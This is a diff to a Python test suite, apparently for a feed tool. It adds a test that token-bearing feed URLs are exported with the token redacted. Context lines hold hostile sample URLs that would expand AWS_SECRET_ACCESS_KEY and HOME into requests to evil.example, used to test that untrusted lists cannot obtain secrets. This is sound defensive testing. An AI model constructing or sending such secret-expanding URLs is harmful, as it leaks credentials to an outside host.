@@ -174,6 +174,13 @@ def test_secrets_on_request(run: Run, home: Path, site: GuardedSite, tmp_path: P
     assert "must have its secret in place of REDACTED" in done.err
 
 
+def test_sources_that_differ_in_their_secret_are_all_exported(run: Run, home: Path) -> None:
+    each = "  - name: {0}\n    address: https://example.org/feed.xml?token={0}\n    kind: feed\n"
+    write_sources(home, "sources:\n" + each.format("one") + each.format("two"))
+    assert run("export", "--opml", "-").out.count("xmlUrl=") == 2
+    assert run("export", "--urls", "-").out.count("feed.xml?token=REDACTED") == 2
+
+
 def test_a_list_of_a_stranger_cannot_ask_for_secrets(run: Run, home: Path, tmp_path: Path) -> None:
     path = tmp_path / "urls"
     path.write_text("https://evil.example/?a=${AWS_SECRET_ACCESS_KEY}\nhttps://${HOME}@evil.example/\n", "utf-8")
